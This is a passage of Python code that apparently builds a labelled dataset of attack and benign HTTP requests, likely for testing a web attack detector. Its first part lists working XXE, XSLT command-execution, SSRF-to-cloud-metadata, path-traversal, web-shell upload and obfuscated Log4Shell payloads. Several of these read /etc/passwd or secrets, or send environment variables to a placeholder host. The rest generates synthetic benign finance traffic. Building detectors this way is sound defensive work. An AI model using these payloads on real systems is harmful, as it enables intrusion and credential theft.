    M("..\\..\\..\\wwwroot\\shell.aspx", mode="filename", content='<%@ Page Language="C#" %>', fct="text/plain"),
    PA("../../../../../../etc/passwd", prefix="/download/", force="/"),
]

# =================================================================== xxe
XX = '<?xml version="1.0" encoding="UTF-8"?>\n'
XXE_NORMAL = [
    XD(XX + '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<order><id>&xxe;</id><qty>1</qty></order>'),
    XD(
        XX
        + '<!DOCTYPE r [<!ENTITY ssrf SYSTEM "http://169.254.169.254/latest/meta-data/iam/security-credentials/">]>\n<r><sku>&ssrf;</sku></r>'
    ),
    XD(XX + '<!DOCTYPE data [<!ENTITY % dtd SYSTEM "http://{H}/evil.dtd"> %dtd; %send;]>\n<data>x</data>'),
    XD(
        XX + '<!DOCTYPE message [\n<!ENTITY % local_dtd SYSTEM "file:///usr/share/yelp/dtd/docbookx.dtd">\n'
        '<!ENTITY % ISOamso \'\n<!ENTITY &#x25; file SYSTEM "file:///etc/passwd">\n'
        '<!ENTITY &#x25; eval "<!ENTITY &#x26;#x25; error SYSTEM &#x27;file:///nonexistent/&#x25;file;&#x27;>">\n'
        "&#x25;eval;\n&#x25;error;\n'>\n%local_dtd;\n]>\n<message>hi</message>"
    ),
    XD('<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>'),
    XD(
        XX + '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
        '<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">'
        '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">'
        '<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">'
        '<!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">'
        '<!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">'
        '<!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">'
        '<!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">'
        '<!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">]>\n<lolz>&lol9;</lolz>'
    ),
    XD(
        XX + '<!DOCTYPE soapenv:Envelope [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>\n'
        '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" xmlns:pay="urn:harborfirst:payments">'
        "<soapenv:Body><pay:GetBalance><pay:accountId>&xxe;</pay:accountId></pay:GetBalance></soapenv:Body></soapenv:Envelope>",
        ep=("online.harborfirst-bank.com", "/ws/PaymentService", ["x"]),
        xctype="text/xml; charset=utf-8",
    ),
    M(
        '<?xml version="1.0" standalone="yes"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>'
        '<svg width="128px" height="128px" xmlns="http://www.w3.org/2000/svg" version="1.1">'
        '<text font-size="16" x="0" y="16">&xxe;</text></svg>',
        mode="file",
        filename="avatar.svg",
        fct="image/svg+xml",
        field="avatar",
        ep=("hr.peoplestack.app", "/api/profile/avatar", ["x"]),
    ),
    XD(
        XX
        + '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///var/www/.env">]>\n<rss version="2.0"><channel><title>&x;</title>'
        "<item><title>Spring sale</title></item></channel></rss>",
        ep=("api.cartwheel-market.com", "/v1/feeds/import", ["x"]),
    ),
    F(XX + '<!DOCTYPE order [<!ENTITY x SYSTEM "file:///etc/passwd">]><order><note>&x;</note></order>', param="xml"),
    XD('<!DOCTYPE x [<!ENTITY e SYSTEM "expect://{C}">]><x>&e;</x>'),
    XD(
        XX
        + '<!DOCTYPE r [<!ENTITY f SYSTEM "php://filter/convert.base64-encode/resource=/var/www/html/config.php">]><r>&f;</r>'
    ),
    XD(XX + '<!DOCTYPE r [<!ENTITY j SYSTEM "jar:http://{H}/payload.zip!/file.txt">]><r>&j;</r>'),
    XD(XX + '<!DOCTYPE r [<!ENTITY n SYSTEM "netdoc:/etc/passwd">]><r>&n;</r>'),
    XD(
        '<xsl:stylesheet version="2.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">'
        "<xsl:value-of select=\"unparsed-text('/etc/passwd')\"/></xsl:template></xsl:stylesheet>",
        ep=("reports.ledgerline.io", "/api/reports/xslt", ["x"]),
    ),
    XD(
        '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:php="http://php.net/xsl">'
        "<xsl:template match=\"/\"><xsl:value-of select=\"php:function('system','{C}')\"/></xsl:template></xsl:stylesheet>",
        ep=("reports.ledgerline.io", "/transform.php", ["x"]),
    ),
    XD(
        '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" '
        'xmlns:rt="http://xml.apache.org/xalan/java/java.lang.Runtime" xmlns:ob="http://xml.apache.org/xalan/java/java.lang.Object">'
        '<xsl:template match="/"><xsl:variable name="r" select="rt:getRuntime()"/><xsl:variable name="p" select="rt:exec($r,\'{C}\')"/>'
        '<xsl:value-of select="ob:toString($p)"/></xsl:template></xsl:stylesheet>',
        ep=("reports.ledgerline.io", "/api/reports/xslt", ["x"]),
    ),
    J(XX + '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><invoice><n>&b;</n></invoice>', param="xmlPayload"),
    Q('<?xml version="1.0"?><!DOCTYPE q [<!ENTITY e SYSTEM "http://{H}/q">]><q>&e;</q>', param="data"),
    XD(
        XX
        + '<!DOCTYPE s:Envelope [<!ENTITY x SYSTEM "file:///etc/shadow">]>\n<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" '
        's:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/"><s:Body><u:AddPortMapping xmlns:u="urn:schemas-upnp-org:service:WANIPConnection:1">'
        "<NewPortMappingDescription>&x;</NewPortMappingDescription></u:AddPortMapping></s:Body></s:Envelope>",
        ep=("hub.thermacore-hub.net", "/upnp/control/WANIPConn1", ["x"]),
        xctype='text/xml; charset="utf-8"',
    ),
    XD(
        XX + '<!DOCTYPE kml [<!ENTITY x SYSTEM "file:///etc/passwd">]><kml xmlns="http://www.opengis.net/kml/2.2">'
        "<Placemark><name>&x;</name><Point><coordinates>-122.08,37.42,0</coordinates></Point></Placemark></kml>",
        ep=("fleet.tracklink-telematics.com", "/api/routes/import", ["x"]),
    ),
    XD(
        XX
        + '<!DOCTYPE propfind [<!ENTITY x SYSTEM "file:///etc/passwd">]><D:propfind xmlns:D="DAV:"><D:prop><D:displayname>&x;'
        "</D:displayname></D:prop></D:propfind>",
        method="PROPFIND",
        ep=("files.ledgerline.io", "/dav/shared/", ["x"]),
    ),
    XD(
        XX
        + '<!DOCTYPE opml [<!ENTITY x SYSTEM "file:///etc/passwd">]><opml version="2.0"><head><title>&x;</title></head>'
        '<body><outline text="feeds"/></body></opml>',
        ep=("app.taskgrid.io", "/api/import/opml", ["x"]),
    ),
    XD(
        XX
        + '<!DOCTYPE methodCall [<!ENTITY x SYSTEM "file:///etc/passwd">]><methodCall><methodName>wp.getUsersBlogs</methodName>'
        "<params><param><value><string>&x;</string></value></param></params></methodCall>",
        ep=("blog.chirpnest.social", "/xmlrpc.php", ["x"]),
    ),
    XD(
        '<!DOCTYPE samlp:AuthnRequest [<!ENTITY x SYSTEM "file:///etc/passwd">]><samlp:AuthnRequest '
        'xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_a1" Version="2.0" IssueInstant="2024-05-02T10:00:00Z">'
        '<saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">&x;</saml:Issuer></samlp:AuthnRequest>',
        ep=("sso.peoplestack.app", "/saml/sso", ["x"]),
    ),
    XD('<?xml version="1.0"?><!DOCTYPE foo PUBLIC "-//X//DTD X//EN" "http://{H}/x.dtd"><foo>bar</foo>'),
    XD(XX + '<!DOCTYPE r [<!ENTITY w SYSTEM "file:///c:/windows/win.ini">]><r>&w;</r>'),
    XD(
        XX
        + '<!DOCTYPE r [<!ENTITY % file SYSTEM "file:///etc/hostname"><!ENTITY % dtd SYSTEM "http://{H}/ftp.dtd">%dtd;]><r/>'
    ),
    M(
        XX
        + '<!DOCTYPE catalog [<!ENTITY x SYSTEM "file:///etc/passwd">]><catalog><product sku="A1"><name>&x;</name></product></catalog>',
        mode="file",
        filename="catalog.xml",
        fct="text/xml",
        field="import_file",
        ep=("api.cartwheel-market.com", "/v1/catalog/upload", ["x"]),
    ),
    X(
        XX.strip() + '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
        param="xmlData",
        tpl='<?xml version="1.0"?>\n<request><xmlData>' + MARK + "</xmlData></request>",
    ),
]
XXE_HARD = [
    XD('<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://{H}/probe.dtd"><r/>'),
    XD('<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="http://{H}/x.xsl"?><invoice><id>1</id></invoice>'),
    XD(
        '<?xml version="1.0"?><order xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
        'xsi:schemaLocation="urn:order http://169.254.169.254/latest/meta-data/hostname"><id>7</id></order>'
    ),
    XD(
        '<?xml version="1.0" encoding="UTF-7"?>'
        + utf7_strict('<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'),
        xctype="application/xml",
    ),
    XD("<!DOCTYPE r [<!ENTITY % a \"<!ENTITY &#x25; b SYSTEM 'http://{H}/x.dtd'>\"> %a; %b;]><r/>"),
    XD(
        '<?xml version="1.0"?>\n<!DOCTYPE\n\tfoo\n[\n<!ENTITY\n\txxe\n\tSYSTEM\n\t"file:///etc/passwd"\n>\n]>\n<foo>&xxe;</foo>'
    ),
    XD('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:/etc/passwd">]><r>&x;</r>'),
    XD('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "/etc/passwd">]><r>&x;</r>'),
    F(
        b64(
            '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><samlp:Response '
            'xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol"><saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">'
            "&x;</saml:Issuer></samlp:Response>"
        ),
        ep=("sso.peoplestack.app", "/saml/acs", ["x"]),
        form=[("SAMLResponse", MARK), ("RelayState", "/dashboard")],
    ),
    J(XX + '<!DOCTYPE a [<!ENTITY b SYSTEM "http://{H}/j">]><a>&b;</a>', uesc="<!>", param="xml"),
    XD(
        '<?xml version="1.0"?><!DOCTYPE x [<!-- import --><!ENTITY x PUBLIC "any" "file:///etc/passwd"><!-- end -->]><x>&x;</x>'
    ),
    M(
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xi="http://www.w3.org/2001/XInclude"><text><xi:include parse="text" '
        'href="file:///etc/passwd"/></text></svg>',
        mode="file",
        filename="icon.svg",
        fct="image/svg+xml",
        field="icon",
    ),
    XD('\ufeff<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///proc/self/environ">]><r>&x;</r>'),
    XD(
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % start "<![CDATA["><!ENTITY % stuff SYSTEM "file:///var/www/html/config.php">'
        '<!ENTITY % end "]]>"><!ENTITY % dtd SYSTEM "http://{H}/join.dtd">%dtd;]><r>&all;</r>'
    ),
    XD(
        '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:include href="http://{H}/x.xsl"/>'
        '<xsl:template match="/"><out/></xsl:template></xsl:stylesheet>',
        ep=("reports.ledgerline.io", "/api/reports/xslt", ["x"]),
    ),
    Q(
        '<?xml version="1.0"?><!DOCTYPE q [<!ENTITY e SYSTEM "file:///etc/hostname">]><q>&e;</q>',
        param="xml",
        force="ALL",
    ),
    XD(
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % d SYSTEM "jar:file:///var/www/uploads/8812.zip!/evil.dtd">%d;]><r/>'
    ),
    XD(
        '<root xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="http://169.254.169.254/latest/meta-data/" parse="text"/></root>'
    ),
    XD('<?xml version="1.0" standalone="no"?><!DOCTYPE r SYSTEM "http://{H}/ext.dtd"><r>&ext;</r>'),
    XD(
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file://localhost/etc/passwd">]><r>&x;</r>',
        xctype="application/soap+xml; charset=utf-8",
    ),
    XD('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "gopher://127.0.0.1:6379/_INFO">%p;]><r/>'),
]

# =================================================================== log4shell
L4S_LONG = (
    "Device reported intermittent sensor dropouts after the overnight firmware update. Technician notes: "
    "replaced the antenna cable, re-seated the battery pack, confirmed signal at -67 dBm. Customer still sees "
    "gaps in the graph between two and four in the morning. Escalating to the platform team with logs attached. "
)
L4S_NORMAL = [
    H("${jndi:ldap://{H}/a}", "User-Agent"),
    H("${jndi:rmi://{H}:1099/o}", "X-Api-Version"),
    Q("${jndi:dns://{H}/x}", param="q", ep=("shop.northwind-outfitters.com", "/search", ["q"])),
    F(
        "${jndi:ldap://{H}:1389/Basic/Command/Base64/" + b64("touch /tmp/l4j") + "}",
        param="username",
        ep=("online.harborfirst-bank.com", "/api/v1/login", ["x"]),
    ),
    H("${jndi:ldaps://{H}/b}", "Referer"),
    J("${jndi:iiop://{H}/c}", param="message"),
    H("${jndi:ldap://${env:USER}.{H}/a}", "X-Forwarded-For"),
    Q("${jndi:ldap://${sys:java.version}.{H}/v}", param="keyword"),
    H("Bearer ${jndi:ldap://${hostName}.{H}/h}", "Authorization"),
    C("${jndi:dns://${ctx:loginId}.{H}}", cname="remember_me"),
    J("${jndi:ldap://127.0.0.1#{H}:1389/a}", param="name"),
    H("${jndi:nds://{H}/n}", "X-Client-IP"),
    H("${jndi:http://{H}/h}", "True-Client-IP"),
    F("${jndi:ldap://{H}/login}", param="pw", ep=("vpn.harborfirst-bank.com", "/vpn/login", ["x"])),
    X("${jndi:ldap://{H}/soap}", param="serial"),
    M("${jndi:ldap://{H}/upload}", mode="field", param="deviceName"),
    PA("${jndi:ldap://{H}/p}", prefix="/", safe="$:/"),
    QK("${jndi:ldap://{H}/qk}", noeq=True),
    JK("${jndi:ldap://{H}/key}", value="1"),
    H("${jndi:ldap://{H}/cf}", "CF-Connecting-IP"),
    H("${jndi:ldap://{H}/ori}", "Origin"),
    H("${jndi:ldap://{H}/inm}", "If-None-Match"),
    H("${jndi:ldap://{H}/lang}", "Accept-Language"),
    H("${jndi:rmi://{H}/xreq}", "X-Requested-With"),
    H("${jndi:ldap://{H}/wap}", "X-Wap-Profile"),
    Q("${jndi:ldap://{H}/solr}", ep=("console.metricvault.dev", "/solr/admin/cores", ["x"]), param="action"),
    J("${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.{H}/k}", param="message"),
    H("${jndi:ldap://{H}/host}", "Host"),
    H("for=${jndi:ldap://{H}/fwd}", "Forwarded"),
    C("${jndi:ldap://{H}/ck}", cname="lang"),
    H("${jndi:ldap://{H}/ct}", "Contact"),
    F("${jndi:ldap://${sys:user.name}.{H}/u}", param="realm"),
]
L4S_HARD = [
    H("${${lower:j}ndi:${lower:l}dap://{H}/a}", "User-Agent"),
    Q("${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://{H}/p}", param="q"),
    H("${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//{H}/a}", "X-Api-Version"),
    F("${jn${lower:d}i:l${lower:d}ap://{H}/f}", param="username"),
    H("${${upper:j}ndi:ldap://{H}/u}", "Referer"),
    J("${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://{H}/d}", param="message"),
    Q("${j${k8s:k5:-ND}i:ldap://{H}/k8s}", param="keyword"),
    H("${jndi:${lower:l}${lower:d}a${lower:p}://{H}/l}", "X-Forwarded-For"),
    C("${${sys:nonexistent:-j}ndi:ldap://{H}/s}", cname="session_hint"),
    J("${JnDi:ldap://{H}/mc}", param="name"),
    J("${jndi:ldap://{H}/json}", uesc="${}", param="source"),
    X("${jndi:ldap://{H}/xml}", charref="${}", param="serial"),
    Q("${jndi:ldap://{H}/enc}", force="ALL", param="q"),
    H("${${::-${::-$${::-j}}}}", "X-Api-Version"),
    J("${jndi:ldap://{H}/deep}", deep=10, param="message"),
    J(L4S_LONG + "${jndi:ldap://{H}/long}", param="message"),
    H("Bearer ${j${::-n}di:dns://{H}/mix}", "Authorization"),
    M("${${lower:jndi}:${lower:rmi}://{H}/m}", mode="field", param="model"),
    H("${${lower:${lower:jndi}}:${lower:ldap}://{H}/nest}", "Accept"),
    QK("${${::-j}ndi:ldap://{H}/qk2}", noeq=True, force="ALL"),
    PA("${${lower:j}${upper:n}di:ldap://{H}/pp}", prefix="/api/v1/", force="ALL"),
]

ATTACK_TABLE = [
    ("java_injection", JAVA_NORMAL, JAVA_HARD),
    ("php_injection", PHP_NORMAL, PHP_HARD),
    ("code_injection", CODE_NORMAL, CODE_HARD),
    ("rfi", RFI_NORMAL, RFI_HARD),
    ("ssrf", SSRF_NORMAL, SSRF_HARD),
    ("rce", RCE_NORMAL, RCE_HARD),
    ("sqli", SQL_NORMAL, SQL_HARD),
    ("nosqli", NOSQL_NORMAL, NOSQL_HARD),
    ("ldapi", LDAP_NORMAL, LDAP_HARD),
    ("ssti", SSTI_NORMAL, SSTI_HARD),
    ("crlf", CRLF_NORMAL, CRLF_HARD),
    ("mail_injection", MAIL_NORMAL, MAIL_HARD),
    ("xss", XSS_NORMAL, XSS_HARD),
    ("path_traversal", PT_NORMAL, PT_HARD),
    ("xxe", XXE_NORMAL, XXE_HARD),
    ("log4shell", L4S_NORMAL, L4S_HARD),
]


# =================================================================== benign framework

NAMES = [
    "Siobhan O'Brien",
    "Zoë Álvarez",
    "Darnell Washington",
    "Priya Raghunathan",
    "Mateusz Wiśniewski",
    "Aoife Ní Bhriain",
    "Kenji Watanabe",
    "Fatima Al-Sayed",
    "Liam O'Connor",
    "Björn Lindqvist",
    "Chloé Dubois",
    "Nguyễn Thị Lan",
    "José María de la Cruz",
    "D'Angelo Reyes",
    "Anne-Marie Lefèvre",
    "Olumide Adeyemi",
    "Samira Haddad",
    "Grace Kim",
    "Tomás Ó Briain",
    "Hannah Schmidt",
    "Marcus Chen",
    "Elif Yılmaz",
    "Ravi Patel",
    "Ingrid Johansen",
    "Łukasz Nowak",
    "Maya Goldberg",
    "Connor McAllister",
    "Sofía Marín",
    "Yusuf Demir",
]
CITIES = [
    "Zürich",
    "São Paulo",
    "Kraków",
    "Reykjavík",
    "Düsseldorf",
    "Montréal",
    "Ōsaka",
    "İstanbul",
    "Málaga",
    "Ciudad de México",
    "Dún Laoghaire",
    "Hà Nội",
    "Göteborg",
    "Lisboa",
    "Bruxelles",
    "Cork",
    "Austin",
    "Leeds",
]
COMPANIES = [
    "Northwind Traders GmbH",
    "Brightline Logistics Ltd",
    "Kestrel & Finch LLP",
    "Acme Widgets Inc.",
    "Moreau Frères SARL",
    "Sakura Foods K.K.",
    "O'Hara Plumbing Ltd",
    "Lindqvist Design AB",
    "Blue Harbor Café",
    "Vértice Consultores S.L.",
    "Greenleaf Nurseries",
    "Duarte & Filhos Lda",
]
EMAIL_DOMAINS = ["gmail.com", "outlook.com", "yahoo.co.uk", "icloud.com", "proton.me", "gmx.de", "web.de", "hotmail.fr"]
PUBLIC_IPS = [
    "81.2.69.142",
    "24.48.0.1",
    "102.89.34.12",
    "185.199.108.153",
    "151.101.1.69",
    "93.184.216.34",
    "172.217.16.142",
    "77.88.55.60",
    "203.0.178.191",
    "41.190.3.22",
    "187.33.12.9",
    "62.210.18.40",
    "2.16.154.27",
    "109.74.196.225",
    "139.130.4.5",
    "200.160.2.3",
]
PUBLIC_IP6 = [
    "2a02:c7f:5a04:b600:9d2c:41e1:7c3a:12f0",
    "2600:1700:3f90:c4a0::2b",
    "2001:4860:4860::8888",
    "2a01:4f8:c17:2b5e::1",
]


def asc(s):
    return "".join(c for c in unicodedata.normalize("NFKD", s) if c.isascii())


def email_for(name, dom=None):
    parts = asc(name).lower().replace("'", "").replace(" ", ".").replace("-", "")
    return "%s@%s" % (parts, dom or R.choice(EMAIL_DOMAINS))


def rdate(y=2024):
    return "%d-%02d-%02d" % (y, R.randint(1, 12), R.randint(1, 28))


def rtime_iso():
    return "%sT%02d:%02d:%02dZ" % (rdate(), R.randint(0, 23), R.randint(0, 59), R.randint(0, 59))


def money(lo=5, hi=5000):
    return "%.2f" % (R.randint(lo * 100, hi * 100) / 100)


def B(placement, payload, host, path, method=None, client=None, **kw):
    if client is None:
        client = "api" if any(k in kw for k in ("json",)) else R.choice(["browser", "browser", "api"])
    ua, accept = pick_client(client)
    sp = {"host": host, "path": path, "ua": kw.pop("ua", ua), "accept": kw.pop("accept", accept)}
    sp["method"] = method or ("POST" if any(k in kw for k in ("json", "form", "mp", "xml")) else "GET")
    hdrs = list(kw.pop("hdrs", []))
    noextra = kw.pop("noextra", False)
    if not noextra:
        if client == "browser":
            if R.random() < 0.6:
                hdrs.append(("Accept-Language", R.choice(LANGS)))
            if R.random() < 0.4:
                hdrs.append(("Referer", "https://%s/" % host))
            if "cookies" not in kw and R.random() < 0.4:
                kw["cookies"] = [("session", ralnum(32))]
        elif R.random() < 0.5:
            hdrs.append(
                (
                    "Authorization",
                    "Bearer "
                    + fake_jwt(
                        {"sub": "usr_" + rhex(10), "scope": "read write", "exp": 1767225600 + R.randint(0, 9999999)}
                    ),
                )
            )
    sp["hdrs"] = hdrs
    sp.update(kw)
    return (placement, payload, sp)


def gen_benign(kind, n, normal, hard):
    normal = list(normal)
    hard = list(hard)
    R.shuffle(normal)
    R.shuffle(hard)
    seen = set()
    ni = hi = 0
    for i in range(n):
        is_hard = i % 3 == 0
        for _ in range(60):
            if is_hard:
                fn = hard[hi % len(hard)]
                hi += 1
            else:
                fn = normal[ni % len(normal)]
                ni += 1
            placement, payload, sp = fn()
            ptxt = payload if isinstance(payload, str) else compact(payload)
            if ptxt not in seen:
                break
        else:
            raise RuntimeError("could not find unique benign payload for " + kind)
        seen.add(ptxt)
        add_row("benign", kind, placement, payload, sp, is_hard, i + 1)


# ------------------------------------------------------------------- benign_finance
FIN_HOSTS = ["app.ledgerline.io", "online.harborfirst-bank.com", "api.meridianpay.io", "trade.quantbridge.io"]
CURR = ["EUR", "USD", "GBP", "CHF", "SEK", "PLN", "JPY"]
ITEMS = [
    "Consulting services (April)",
    "Annual software licence",
    "Website maintenance",
    "Office chairs x4",
    "Catering – team offsite",
    "Freight Rotterdam → Hamburg",
    "Translation DE→EN, 12 pages",
    "Cloud hosting, May",
    "Legal review of NDA",
    "Espresso machine service",
]


def rand_iban():
    c = R.choice(["DE", "GB", "FR", "NL", "ES"])
    if c == "DE":
        return iban("DE", rdigits(18))
    if c == "GB":
        return iban("GB", R.choice(["NWBK", "BARC", "HBUK", "LOYD"]) + rdigits(14))
    if c == "FR":
        return iban("FR", rdigits(10) + ralnum(11).upper() + rdigits(2))
    if c == "NL":
        return iban("NL", R.choice(["ABNA", "INGB", "RABO"]) + rdigits(10))
    return iban("ES", rdigits(20))


def spaced_iban():
    s = rand_iban()
    return " ".join(s[i : i + 4] for i in range(0, len(s), 4))


def invoice_doc(notes):
    cur = R.choice(CURR)
    return {
        "invoiceNumber": "INV-2024-%04d" % R.randint(1, 9999),
        "customer": {
            "name": R.choice(COMPANIES),
            "vatId": "DE%s" % rdigits(9),
            "email": "ap@%s.example" % R.choice(["northwind", "kestrel", "brightline"]),
        },
        "issueDate": rdate(),
        "dueDate": rdate(),
        "currency": cur,
        "lines": [
            {
                "description": R.choice(ITEMS),
                "quantity": R.randint(1, 12),
                "unitPrice": money(20, 900),
                "taxRate": R.choice([0.19, 0.2, 0.077, 0.21, 0.0]),
            }
            for _ in range(R.randint(1, 3))
        ],
        "notes": notes,
    }


FIN_NOTES = [
    "Payment due within 30 days. Thank you for your business!",
    "Please reference the invoice number on your bank transfer.",
    "Early payment discount of 2% if paid within 10 days.",
    "Reverse charge: VAT to be accounted for by the recipient.",
    "Thanks for the quick turnaround on the April work.",
    "Partial delivery; remaining items ship next week.",
    "Bank: Harbor First, BIC HFBKGB2L.",
    "Late fees apply after 45 days per our terms.",
]


def fin_invoice():
    n = R.choice(FIN_NOTES) + R.choice(["", " Kind regards, %s" % R.choice(NAMES)])
    return B("json", n, "app.ledgerline.io", "/api/v1/invoices", json=invoice_doc(MARK))


def fin_transfer():
    p = R.choice([rand_iban(), spaced_iban()])
    return B(
        "form",
        p,
        "online.harborfirst-bank.com",
        "/payments/transfer/new",
        client="browser",
        form=[
            ("from_account", "CHK-%s" % rdigits(6)),
            ("beneficiary_name", R.choice(NAMES)),
            ("iban", MARK),
            ("bic", R.choice(["DEUTDEFF", "NWBKGB2L", "BNPAFRPP", "INGBNL2A", "CAIXESBB"])),
            ("amount", money(10, 3000)),
            ("currency", "EUR"),
            ("reference", R.choice(["Rent", "Invoice", "Gift", "Deposit"])),
            ("csrf_token", rhex(40)),
        ],
    )


def fin_trade():
    sym = R.choice(
        ["AAPL", "BRK.B", "VWRL.L", "SAP.DE", "7203.T", "NESN.SW", "MSFT", "ASML.AS", "RIO.L", "TSLA", "NOVO-B.CO"]
    )
    return B(
        "json",
        sym,
        "trade.quantbridge.io",
        "/api/v2/orders",
        client="api",
        json={
            "accountId": "QB-%s" % rdigits(7),
            "symbol": MARK,
            "side": R.choice(["buy", "sell"]),
            "type": "limit",
            "quantity": R.randint(1, 400),
            "limitPrice": money(5, 900),
            "timeInForce": R.choice(["GTC", "DAY", "IOC"]),
            "clientOrderId": ruuid(),
        },
    )


def fin_txn_query():
    cat = R.choice(
        [
            "Groceries",
            "Travel & Transport",
            "Utilities",
            "Dining out",
            "Health & Fitness",
            "Kids & Family",
            "Subscriptions",
            "Home improvement",
            "Salary",
            "Transfers",
        ]
    )
    return B(
        "query",
        cat,
        "online.harborfirst-bank.com",
        "/api/v1/accounts/ACC-%s/transactions" % rdigits(6),
        q=[("from", rdate()), ("to", rdate()), ("category", MARK), ("page", str(R.randint(1, 5)))],
        plus=R.random() < 0.5,
    )


def fin_fx():
    amt = R.choice(["1000", "250.50", "12500", "99.99", "3,000.00", "1 000,00"])
    return B(
        "query",
        amt,
        "api.meridianpay.io",
        "/v1/fx/quote",
        q=[("base", R.choice(CURR)), ("quote", R.choice(CURR)), ("amount", MARK)],
        client="api",
    )


def fin_statement():
    rows = ["Date,Description,Amount,Currency"]
    for _ in range(R.randint(3, 6)):
        rows.append(
            '%s,"%s",%s,EUR'
            % (
                rdate(),
                R.choice(
                    [
                        "REWE SAGT DANKE 4431",
                        "AMAZON MKTPLACE PMTS",
                        "SPOTIFY P1A2B3",
                        "DB Vertrieb GmbH",
                        "Stadtwerke Köln",
                        "SALARY APRIL",
                        "Apotheke am Markt",
                    ]
                ),
                ("-" if R.random() < 0.8 else "") + money(3, 900),
            )
        )
    content = "\r\n".join(rows) + "\r\n"
    return B(
        "multipart",
        content,
        "app.ledgerline.io",
        "/api/v1/bank-statements/import",
        client="browser",
        mp=[
            ("account", None, None, "DE-main"),
            ("file", "statement_%s.csv" % rdate().replace("-", ""), "text/csv", MARK),
        ],
    )


def pain001(ustrd):
    cd = iban("DE", rdigits(18))
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n<Document xmlns="urn:iso:std:iso:20022:tech:xsd:pain.001.001.09">'
        "<CstmrCdtTrfInitn><GrpHdr><MsgId>MSG-%s</MsgId><CreDtTm>%s</CreDtTm><NbOfTxs>1</NbOfTxs>"
        "<InitgPty><Nm>%s</Nm></InitgPty></GrpHdr><PmtInf><PmtInfId>PMT-%s</PmtInfId><PmtMtd>TRF</PmtMtd>"
        "<ReqdExctnDt><Dt>%s</Dt></ReqdExctnDt><Dbtr><Nm>%s</Nm></Dbtr><DbtrAcct><Id><IBAN>%s</IBAN></Id></DbtrAcct>"
        '<CdtTrfTxInf><PmtId><EndToEndId>E2E-%s</EndToEndId></PmtId><Amt><InstdAmt Ccy="EUR">%s</InstdAmt></Amt>'
        "<Cdtr><Nm>%s</Nm></Cdtr><CdtrAcct><Id><IBAN>%s</IBAN></Id></CdtrAcct><RmtInf><Ustrd>%s</Ustrd></RmtInf>"
        "</CdtTrfTxInf></PmtInf></CstmrCdtTrfInitn></Document>"
    ) % (
        rdigits(8),
        rtime_iso(),
        xesc(R.choice(COMPANIES)),
        rdigits(6),
        rdate(),
        xesc(R.choice(COMPANIES)),
        cd,
        rdigits(10),
        money(50, 20000),
        xesc(R.choice(COMPANIES)),
        rand_iban(),
        xesc(ustrd),
    )


def fin_pain():
    doc = pain001(R.choice(["Invoice 2024-%d" % R.randint(100, 999), "Salary May", "Rent Q2", "Order %s" % rdigits(6)]))
    return B("xml", doc, "api.meridianpay.io", "/v1/payments/batch", client="api", xml=None)


def fin_budget():
    k = R.choice(
        [
            "Groceries & Household",
            "Kids' activities",
            "Car – fuel",
            "Gifts",
            "Holiday fund",
